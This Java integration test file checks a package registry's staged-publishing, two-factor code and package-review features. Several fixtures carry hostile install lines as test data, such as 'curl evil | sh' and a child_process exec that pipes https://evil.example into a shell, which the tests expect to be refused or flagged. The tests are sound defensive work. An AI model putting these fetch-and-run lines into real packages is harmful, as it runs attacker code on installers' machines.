package dev.airlock.server;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.airlock.platform.json.Json;
import dev.airlock.testing.Authenticator;
import dev.airlock.testing.Http;
import dev.airlock.testing.TarBytes;
import dev.airlock.testing.Tarballs;
import dev.airlock.testing.TestRegistry;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.Callable;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/** The staging and 2FA invariants of issue #3 at the HTTP level: each would fail if the invariant broke. */
class StagingInvariantsIT {
    static TestRegistry registry;
    static String owner;
    static Authenticator ownerApp;
    static String stranger;
    static Http http;

    @BeforeAll
    static void start() {
        registry = TestRegistry.start();
        http = registry.http;
        owner = registry.userWithToken("owner");
        ownerApp = registry.enableTwoFactor("owner", owner, "auth-and-writes");
        stranger = registry.userWithToken("stranger");
    }

    @AfterAll
    static void stop() {
        registry.close();
    }

    static String body(String name, String version) {
        return Json.write(Tarballs.publishBody(name, version));
    }

    static Http.Response publish(String name, String version) {
        return http.send("PUT", Tarballs.escaped(name), owner, body(name, version), "npm-otp", ownerApp.next());
    }

    static Http.Response stage(String name, String version) {
        return http.send(
                "POST",
                "-/stage/package/" + Tarballs.escaped(name),
                owner,
                body(name, version),
                "npm-command",
                "stage");
    }

    static String stageId(Http.Response r) {
        assertThat(r.status()).as(r.body()).isEqualTo(201);
        return r.json().path("stageId").asText();
    }

    static Http.Response approve(String id, String token, String otp) {
        return otp == null
                ? http.send("POST", "-/stage/" + id + "/approve", token, null)
                : http.send("POST", "-/stage/" + id + "/approve", token, null, "npm-otp", otp);
    }

    @Test
    void stagingNeverAsksForACodeAndApprovalPublishesExactlyTheStagedBytes() {
        assertThat(publish("bytes", "1.0.0").status()).isEqualTo(201);
        String id = stageId(stage("bytes", "2.0.0"));
        String stagedIntegrity =
                http.get("-/stage/" + id, owner).json().path("integrity").asText();
        Http.Response ok = approve(id, owner, ownerApp.next());
        assertThat(ok.status()).isEqualTo(200);
        assertThat(ok.json().path("published").asBoolean()).isTrue();
        JsonNode v = http.get("bytes", null).json().path("versions").path("2.0.0");
        assertThat(v.path("dist").path("integrity").asText()).isEqualTo(stagedIntegrity);
        var approval = registry.airlock.audit.forTarget("package:bytes").stream()
                .filter(e -> e.action().equals("stage.approve"))
                .findFirst();
        assertThat(approval).isPresent();
        assertThat(approval.get().detail())
                .containsEntry("integrity", stagedIntegrity)
                .containsEntry("factor", "totp");
        assertThat(approval.get().actor()).startsWith("owner");
    }

    @Test
    void aCodeIsAcceptedOnceEvenConcurrently() throws Exception {
        assertThat(publish("replay", "1.0.0").status()).isEqualTo(201);
        String code = ownerApp.next();
        assertThat(http.send("PUT", "-/package/replay/dist-tags/a", owner, "\"1.0.0\"", "npm-otp", code)
                        .status())
                .isEqualTo(201);
        Http.Response again = http.send("PUT", "-/package/replay/dist-tags/b", owner, "\"1.0.0\"", "npm-otp", code);
        assertThat(again.status()).isEqualTo(401);
        assertThat(again.header("WWW-Authenticate")).isEqualTo("OTP");
        assertThat(again.error()).contains("already used");
        assertThat(registry.airlock.audit.forTarget("user:owner").stream().map(e -> e.action()))
                .contains("tfa.replay");

        ExecutorService pool = Executors.newFixedThreadPool(8);
        try {
            for (int round = 0; round < 5; round++) {
                String shared = ownerApp.next();
                CountDownLatch go = new CountDownLatch(1);
                List<Future<Integer>> results = new ArrayList<>();
                for (int i = 0; i < 8; i++) {
                    String tag = "t" + round + "x" + i;
                    results.add(pool.submit(() -> {
                        go.await();
                        return http.send(
                                        "PUT",
                                        "-/package/replay/dist-tags/" + tag,
                                        owner,
                                        "\"1.0.0\"",
                                        "npm-otp",
                                        shared)
                                .status();
                    }));
                }
                go.countDown();
                int accepted = 0;
                for (Future<Integer> f : results) {
                    if (f.get() == 201) {
                        accepted++;
                    }
                }
                assertThat(accepted).as("round " + round).isEqualTo(1);
            }
        } finally {
            pool.shutdownNow();
        }
    }

    @Test
    void wrongCodesAreThrottledAndAudited() {
        String token = registry.userWithToken("fumbler");
        Authenticator app = registry.enableTwoFactor("fumbler", token, "auth-and-writes");
        http.send("PUT", "fumbled", token, body("fumbled", "1.0.0"), "npm-otp", app.next());
        int before = registry.airlock.audit.forTarget("user:fumbler").size();
        for (int i = 0; i < 5; i++) {
            Http.Response r =
                    http.send("PUT", "-/package/fumbled/dist-tags/good", token, "\"1.0.0\"", "npm-otp", "000000");
            assertThat(r.status()).isEqualTo(401);
        }
        Http.Response limited =
                http.send("PUT", "-/package/fumbled/dist-tags/good", token, "\"1.0.0\"", "npm-otp", app.next());
        assertThat(limited.status()).isEqualTo(429);
        assertThat(Long.parseLong(limited.header("Retry-After"))).isBetween(1L, 900L);
        assertThat(limited.error()).contains("Too many wrong one-time passwords");
        var events = registry.airlock.audit.forTarget("user:fumbler");
        assertThat(events.subList(before, events.size()).stream()
                        .filter(e -> e.action().equals("tfa.failure")))
                .hasSize(5);
        registry.clock.advance(Duration.ofMinutes(16));
        assertThat(http.send("PUT", "-/package/fumbled/dist-tags/good", token, "\"1.0.0\"", "npm-otp", app.next())
                        .status())
                .isEqualTo(201);
        // the maintenance task forgets the aged-out failures (other tests' may be among them)
        assertThat(registry.airlock.twoFactor.totp().purgeFailures()).isGreaterThanOrEqualTo(5);
        assertThat(registry.airlock.twoFactor.totp().purgeFailures()).isZero();
    }

    @Test
    void stagedAndPublishedVersionsShareOneUniquenessIndex() {
        assertThat(publish("unique", "1.0.0").status()).isEqualTo(201);
        Http.Response overPublished = stage("unique", "1.0.0");
        assertThat(overPublished.status()).isEqualTo(409);
        assertThat(overPublished.error()).contains("cannot publish over the previously published version");
        stageId(stage("unique", "2.0.0"));
        stageId(stage("unique", "2.1.0"));
        Http.Response overStaged = publish("unique", "2.0.0");
        assertThat(overStaged.status()).isEqualTo(409);
        assertThat(overStaged.error()).contains("already staged");
        assertThat(http.send(
                                "PUT",
                                "unique/-rev/"
                                        + http.get("unique", null)
                                                .json()
                                                .path("_rev")
                                                .asText(),
                                owner,
                                "{\"_id\":\"unique\",\"versions\":{}}",
                                "npm-otp",
                                ownerApp.next())
                        .status())
                .isEqualTo(200);
        Http.Response unpublished = stage("unique", "1.0.0");
        assertThat(unpublished.status()).isEqualTo(409);
        assertThat(unpublished.error()).contains("cannot be reused");
    }

    @Test
    void concurrentStageAndPublishOfOneVersionHaveExactlyOneWinner() throws Exception {
        assertThat(publish("contested", "0.0.1").status()).isEqualTo(201);
        ExecutorService pool = Executors.newFixedThreadPool(4);
        try {
            for (int round = 0; round < 20; round++) {
                String version = "1.0." + round;
                String otp = ownerApp.next();
                CountDownLatch go = new CountDownLatch(1);
                List<Callable<Integer>> calls = List.of(
                        () -> {
                            go.await();
                            return http.send("PUT", "contested", owner, body("contested", version), "npm-otp", otp)
                                    .status();
                        },
                        () -> {
                            go.await();
                            return stage("contested", version).status();
                        },
                        () -> {
                            go.await();
                            return stage("contested", version).status();
                        });
                List<Future<Integer>> results = new ArrayList<>();
                for (Callable<Integer> c : calls) {
                    results.add(pool.submit(c));
                }
                go.countDown();
                int won = 0;
                for (Future<Integer> f : results) {
                    int status = f.get();
                    if (status == 201) {
                        won++;
                    } else {
                        assertThat(status).isEqualTo(409);
                    }
                }
                assertThat(won).as("round " + round).isEqualTo(1);
            }
        } finally {
            pool.shutdownNow();
        }
    }

    @Test
    void listingPagesAreConsistentWithTotal() {
        assertThat(publish("many", "0.0.1").status()).isEqualTo(201);
        for (int i = 0; i < 130; i++) {
            stageId(stage("many", "1.0." + i));
        }
        JsonNode page0 =
                http.get("-/stage?page=0&perPage=100&package=many", owner).json();
        JsonNode page1 =
                http.get("-/stage?page=1&perPage=100&package=many", owner).json();
        JsonNode page2 =
                http.get("-/stage?page=2&perPage=100&package=many", owner).json();
        assertThat(page0.path("total").asInt()).isEqualTo(130);
        assertThat(page0.path("items").size()).isEqualTo(100);
        assertThat(page1.path("items").size()).isEqualTo(30);
        assertThat(page2.path("items").size()).isZero();
        assertThat(http.get("-/stage?page=0&perPage=100&package=many", stranger)
                        .json()
                        .path("total")
                        .asInt())
                .isZero();
        assertThat(http.get("-/stage?perPage=1000", owner).status()).isEqualTo(400);
    }

    @Test
    void strangersGetTheSame404AsForAnUnknownId() {
        assertThat(publish("hidden", "1.0.0").status()).isEqualTo(201);
        String id = stageId(stage("hidden", "1.1.0"));
        String unknown = "00000000-0000-4000-8000-000000000000";
        for (String path : List.of("-/stage/%s", "-/stage/%s/tarball")) {
            Http.Response seen = http.get(String.format(path, id), stranger);
            Http.Response none = http.get(String.format(path, unknown), stranger);
            assertThat(seen.status()).isEqualTo(404);
            assertThat(seen.body()).isEqualTo(none.body().replace(unknown, id));
        }
        assertThat(approve(id, stranger, "123456").status()).isEqualTo(404);
        assertThat(http.send("DELETE", "-/stage/" + id, stranger, null, "npm-otp", "123456")
                        .status())
                .isEqualTo(404);
        assertThat(http.get("-/stage/not-a-uuid", owner).status()).isEqualTo(404);
        assertThat(http.get("-/stage/" + id, null).status()).isEqualTo(401);
    }

    @Test
    void expiredStagesCannotBeApprovedAndTheirTarballsAreFreed() {
        assertThat(publish("slow", "1.0.0").status()).isEqualTo(201);
        String id = stageId(stage("slow", "1.1.0"));
        assertThat(http.bytes("-/stage/" + id + "/tarball", owner)).isNotNull();
        registry.clock.advance(Duration.ofDays(8));
        Http.Response late = approve(id, owner, ownerApp.next());
        assertThat(late.status()).isEqualTo(409);
        assertThat(late.error()).contains("expired");
        assertThat(http.get("-/stage/" + id + "/tarball", owner).status()).isEqualTo(404);
        assertThat(http.get("-/stage/" + id, owner).json().path("state").asText())
                .isEqualTo("expired");
        assertThat(registry.airlock.audit.forTarget("package:slow").stream().map(e -> e.action()))
                .contains("stage.expire");
        assertThat(http.get("slow", null).body()).doesNotContain("1.1.0");
        // the number was never published: it can be staged again
        stageId(stage("slow", "1.1.0"));
    }

    @Test
    void privatePackagesAndBadBodiesAreRefusedWhenStaging() {
        ObjectNode m = Tarballs.manifest("secretive", "1.0.0");
        m.put("private", true);
        Http.Response r = http.send(
                "POST",
                "-/stage/package/secretive",
                owner,
                Json.write(Tarballs.publishBody(m, Tarballs.packageTgz(m), "latest")));
        assertThat(r.status()).isEqualTo(400);
        assertThat(r.error()).contains("private");
        ObjectNode confused = Tarballs.manifest("confused", "1.0.0");
        ObjectNode inside = confused.deepCopy();
        inside.putObject("scripts").put("postinstall", "curl evil | sh");
        Http.Response c = http.send(
                "POST",
                "-/stage/package/confused",
                owner,
                Json.write(Tarballs.publishBody(confused, Tarballs.packageTgz(inside), "latest")));
        assertThat(c.status()).isEqualTo(422);
        assertThat(c.error()).contains("scripts");
        assertThat(http.get("-/stage?package=confused", owner)
                        .json()
                        .path("total")
                        .asInt())
                .isZero();
    }

    @Test
    void recoveryCodesAreHashedAndWorkOnce() {
        String token = registry.userWithToken("lost");
        Http.Response start = http.post(
                "-/npm/v1/user", token, "{\"tfa\":{\"password\":\"lost-password\",\"mode\":\"auth-and-writes\"}}");
        Authenticator app = new Authenticator(
                start.json().path("tfa").asText().replaceAll(".*secret=([A-Z2-7]+).*", "$1"), registry.clock);
        JsonNode codes = http.post("-/npm/v1/user", token, "{\"tfa\":[\"" + app.next() + "\"]}")
                .json()
                .path("tfa");
        assertThat(codes.size()).isEqualTo(10);
        String code = codes.get(0).asText();
        List<String> stored = registry.airlock.db.read(tx -> tx.handle()
                .createQuery("SELECT code_hash FROM tfa_recovery WHERE user_name = 'lost'")
                .mapTo(String.class)
                .list());
        assertThat(stored).hasSize(10).doesNotContain(code);
        assertThat(http.send("PUT", "lostpkg", token, body("lostpkg", "1.0.0"), "npm-otp", code)
                        .status())
                .isEqualTo(201);
        assertThat(http.send("PUT", "lostpkg", token, body("lostpkg", "1.0.1"), "npm-otp", code)
                        .status())
                .isEqualTo(401);
    }

    @Test
    void aReviewShowsTheRiskOfAStagedVersionAtTheTop() {
        assertThat(publish("reviewed", "1.0.0").status()).isEqualTo(201);
        ObjectNode m = Tarballs.manifest("reviewed", "1.1.0");
        m.putObject("scripts").put("postinstall", "node steal.js");
        m.putObject("dependencies").put("helper", "git+https://example.com/helper.git");
        String id = stageId(http.send(
                "POST",
                "-/stage/package/reviewed",
                owner,
                Json.write(Tarballs.publishBody(m, Tarballs.packageTgz(m), "latest"))));
        Http.Response review = http.get("-/airlock/v1/stage/" + id + "/review", owner);
        assertThat(review.status()).as(review.body()).isEqualTo(200);
        JsonNode r = review.json();
        assertThat(r.path("previous").asText()).isEqualTo("1.0.0");
        assertThat(r.path("signals").get(0).path("level").asText()).isEqualTo("high");
        assertThat(r.path("signals").toString())
                .contains("postinstall")
                .contains("node steal.js")
                .contains("installs from git");
        assertThat(r.path("files").toString()).contains("package.json");
        assertThat(r.path("diffs").path("package.json").asText()).contains("+").contains("postinstall");
        assertThat(http.get("-/airlock/v1/stage/" + id + "/review", stranger).status())
                .isEqualTo(404);
    }

    /** Issue 10: a tarball of two gzip members is reviewed whole, as npm installs it (the review once showed one member). */
    @Test
    void aReviewListsTheFilesOfEveryGzipMember() {
        assertThat(publish("members", "1.0.0").status()).isEqualTo(201);
        ObjectNode m = Tarballs.manifest("members", "1.1.0");
        byte[] tgz =
                TarBytes.twoMembers(Json.write(m), "require('child_process').exec('curl https://evil.example | sh')\n");
        String id = stageId(http.send(
                "POST",
                "-/stage/package/members",
                owner,
                Json.write(Tarballs.publishBody(m, tgz, "latest")),
                "npm-command",
                "stage"));
        Http.Response review = http.get("-/airlock/v1/stage/" + id + "/review", owner);
        assertThat(review.status()).as(review.body()).isEqualTo(200);
        List<String> files = new ArrayList<>();
        review.json()
                .path("files")
                .forEach(f -> files.add(
                        f.path("path").asText() + ":" + f.path("change").asText()));
        assertThat(files).contains("install.js:added");
        assertThat(review.json().path("filesAfter").asInt()).isEqualTo(2);
    }
}
